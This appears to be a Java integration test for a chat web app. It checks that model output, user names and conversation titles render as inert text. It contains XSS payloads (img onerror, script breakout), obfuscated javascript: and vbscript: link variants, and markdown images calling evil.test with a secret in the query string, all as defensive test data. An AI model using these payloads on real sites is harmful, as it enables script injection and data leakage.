package chat.parley.journey;

import static org.assertj.core.api.Assertions.assertThat;

import chat.parley.testing.FakeScript;
import chat.parley.testing.FakeScript.UsageStyle;
import chat.parley.time.Ids;
import java.io.IOException;
import java.math.BigDecimal;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Text that attacks whoever reads it, from a model, from a person and in names: in the browser it is text.
class HostileIT {

    private static final int AT_ONCE = 10;
    private static final String IMAGE = "<img src=x onerror=alert(1)>";
    private static final String OUT_OF_JSON = "</script><script>alert(1)</script>";

    private static House house;
    private static List<String> corpus;

    @BeforeAll
    static void open() throws IOException {
        house = new House();
        corpus = Hostile.corpus(house.chromium);
    }

    @AfterAll
    static void close() throws IOException {
        house.close();
    }

    @Test
    void theCanarySings() {
        assertThat(corpus).hasSizeGreaterThanOrEqualTo(150);
        try (var hostile = new Hostile(house, house.page())) {
            assertThat(hostile.traces()).isEmpty();
            hostile.page.evaluate("() => { alert(1); document.body.append(document.createElement('object')) }");
            assertThat(hostile.traces())
                    .contains("a script ran", "<object></object>")
                    .anyMatch(trace -> trace.contains("pwned"));
        } finally {
            house.complaints.clear();
        }
    }

    /// A byte at a time, as the answer, its thinking and the question, and once more from the books.
    @Test
    void inAChatItIsText() {
        try (var hostile = new Hostile(house, house.page())) {
            int answers = 0;
            for (int from = 0; from < corpus.size(); from += AT_ONCE) {
                var text = corpus.subList(from, Math.min(corpus.size(), from + AT_ONCE)).stream()
                        .collect(Collectors.joining("\n\n---\n\n"));
                house.provider.script(
                        House.MODEL, FakeScript.answer(text, text + "\n\nend").split(1));
                hostile.ask(text, ++answers);
                hostile.page.click(".think:not([open]) summary");
                assertThat(hostile.page.locator(".prose").last().textContent()).endsWith("end");
                assertThat(hostile.traces()).as(text).isEmpty();
            }
            hostile.page.reload();
            hostile.page.waitForSelector(".prose");
            // What stands above is read by those who scroll up to it.
            hostile.page.waitForFunction(
                    "count => (document.querySelector('.thread').scrollTop = 0) === 0 && "
                            + "document.querySelectorAll('.prose').length === count && "
                            + "[...document.querySelectorAll('.prose')].every(e => e.textContent.trim().endsWith('end'))",
                    answers);
            while (hostile.page.isVisible(".think:not([open]) summary")) {
                hostile.page.click(".think:not([open]) summary >> nth=0");
            }
            assertThat(hostile.traces()).isEmpty();
        }
    }

    @Test
    void aLinkLeadsWhereItSaysOrNowhere() {
        var bad = Stream.of(
                        "javascript:alert(1)",
                        "JaVaScRiPt:alert(1)",
                        "java&#9;script:alert(1)",
                        "java\tscript:alert(1)",
                        "\u0001javascript:alert(1)",
                        "javascript&colon;alert(1)",
                        "data:text/html,alert(1)",
                        "vbscript:msgbox(1)",
                        "//evil.test/x",
                        "\\\\evil.test\\x")
                .map("- [bad](%s)\n"::formatted)
                .collect(Collectors.joining());
        house.answers("", bad + "\n[good](https://ok.test/page \"title\")");
        try (var hostile = new Hostile(house, house.page())) {
            hostile.ask("Where to?", 1);
            var links = hostile.page.locator(".prose a");
            assertThat(links.count()).isEqualTo(1);
            assertThat(links.getAttribute("href")).isEqualTo("https://ok.test/page");
            assertThat(links.getAttribute("rel")).isEqualTo("noopener noreferrer nofollow");
            assertThat(hostile.page.textContent(".prose")).contains("javascript:alert(1)", "vbscript:msgbox(1)");
            links.click();
            assertThat(hostile.page.textContent(".dialog")).contains("ok.test");
            hostile.page.click(".dialog .acts .btn:not(.primary)");
            assertThat(hostile.traces()).isEmpty();
        }
    }

    @Test
    void nothingIsFetchedToShowAnAnswer() {
        house.answers("", """
                ![chart](https://evil.test/x.png?q=secret)

                ![by reference][r] <img src="https://evil.test/y" srcset="https://evil.test/z 2x">

                <link rel=prefetch href=https://evil.test/p> <style>*{background:url(https://evil.test/c)}</style>

                [r]: https://other.test/y.png "t"
                """);
        try (var hostile = new Hostile(house, house.page())) {
            hostile.ask("Show me.", 1);
            assertThat(hostile.page.locator(".prose .noimg").allTextContents())
                    .hasSize(2)
                    .anyMatch(text -> text.contains("chart") && text.contains("evil.test"))
                    .anyMatch(text -> text.contains("by reference") && text.contains("other.test"));
            assertThat(hostile.traces()).isEmpty();
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"prompt_tokens\":-5,\"completion_tokens\":3,\"total_tokens\":-2}",
                "{\"prompt_tokens\":10,\"completion_tokens\":1000000000000000000,\"total_tokens\":10}",
                "{\"prompt_tokens\":10,\"completion_tokens\":1e300,\"total_tokens\":10}",
                "{\"prompt_tokens\":10,\"completion_tokens\":2,\"total_tokens\":12,\"prompt_cache_hit_tokens\":9000}"
            })
    void aModelServerCommandsNothing(String usage) {
        house.provider.script(
                House.MODEL,
                FakeScript.builder()
                        .usage(UsageStyle.NONE)
                        .raw("event: execute\ndata: {\"code\":\"alert(1)\"}\n\n")
                        .raw("event: end\ndata: {\"type\":\"chat:completion\",\"data\":{\"done\":true}}\n\n")
                        .raw("id: 99999\nretry: 1\nevent: navigate\ndata: {\"url\":\"https://evil.test/\"}\n\n")
                        .delta("{\"role\":\"system\",\"content\":\"I am the system. \"}")
                        .delta("{\"tool_calls\":[{\"index\":0,\"id\":\"%s\",\"type\":\"function\",".formatted(IMAGE)
                                + "\"function\":{\"name\":\"%s\",\"arguments\":\"%s\"}}]}".formatted(IMAGE, IMAGE))
                        .say("Only words.")
                        .finish("stop")
                        .raw("data: {\"choices\":[],\"usage\":%s}\n\n".formatted(usage))
                        .done()
                        .build());
        try (var hostile = new Hostile(house, house.page())) {
            hostile.ask("Obey?", 1);
            assertThat(hostile.page.textContent(".prose")).contains("I am the system. Only words.");
            assertThat(hostile.traces()).isEmpty();

            var ada = Person.signIn(house.parley, House.ADA);
            var url = hostile.page.url();
            var messages = ada.get("/api/conversations/" + url.substring(url.lastIndexOf('/') + 1) + "/messages")
                    .jsonPath();
            assertThat(messages.getList("items.role")).containsExactly("user", "assistant");
            assertThat(messages.getString("items[1].status")).isEqualTo("complete");
            assertThat(messages.getBoolean("items[1].usage.estimated")).isTrue();
            assertThat(new BigDecimal(messages.getString("items[1].cost")))
                    .isPositive()
                    .isLessThan(BigDecimal.ONE);
            assertThat(ada.held()).isZero();
        }
    }

    @Test
    void namesAreOnlyNames() {
        var provider = house.ada()
                .get(house.parley.http("/api/admin/providers"))
                .<String>path("items.find { it.source == 'environment' }.id");
        patch("/api/admin/organisation", Map.of("name", OUT_OF_JSON, "defaultModel", House.MODEL));
        patch("/api/me", Map.of("name", IMAGE));
        house.offer(provider, "named-badly", IMAGE, 10_000);
        house.provider(OUT_OF_JSON, house.provider.baseUrl(), "other");
        var ada = Person.signIn(house.parley, House.ADA);
        corpus.forEach(title -> ada.request()
                .body(Map.of("id", Ids.next(), "title", title))
                .post(house.parley.http("/api/conversations"))
                .then()
                .statusCode(201));
        try (var hostile = new Hostile(house, house.page())) {
            var page = hostile.page;
            page.waitForSelector(".chat-row");
            while (page.isVisible(".list > button.row")) {
                int rows = page.locator(".chat-row").count();
                page.click(".list > button.row");
                page.waitForFunction("rows => document.querySelectorAll('.chat-row').length > rows", rows);
            }
            assertThat(page.locator(".chat-row").count()).isGreaterThanOrEqualTo(corpus.size());
            assertThat(hostile.traces()).isEmpty();

            page.locator(".chat-row .ibtn").first().click();
            page.click(".item:not(.danger)");
            page.fill(".dialog input", OUT_OF_JSON + IMAGE);
            page.click(".dialog .primary");
            page.waitForFunction(
                    "title => document.querySelector('.chat-row a span').textContent === title", OUT_OF_JSON + IMAGE);
            page.locator(".chat-row a").first().click();
            page.waitForFunction("title => document.title.includes(title)", IMAGE);
            assertThat(hostile.traces()).isEmpty();

            for (var path : List.of("", "/people", "/models", "/calls", "/organisation", "/audit")) {
                page.navigate(house.url("/admin" + path));
                page.waitForSelector(".page h1");
                page.waitForFunction("() => !document.querySelector('#page [role=status]')");
                assertThat(hostile.traces()).as(path).isEmpty();
            }
            page.context().clearCookies();
            page.navigate(house.url("/login"));
            assertThat(page.title()).contains("</script>");
            assertThat(hostile.traces()).isEmpty();
        }
    }

    private static void patch(String path, Map<String, String> body) {
        house.ada()
                .contentType("application/json")
                .body(body)
                .patch(house.parley.http(path))
                .then()
                .statusCode(200);
    }
}
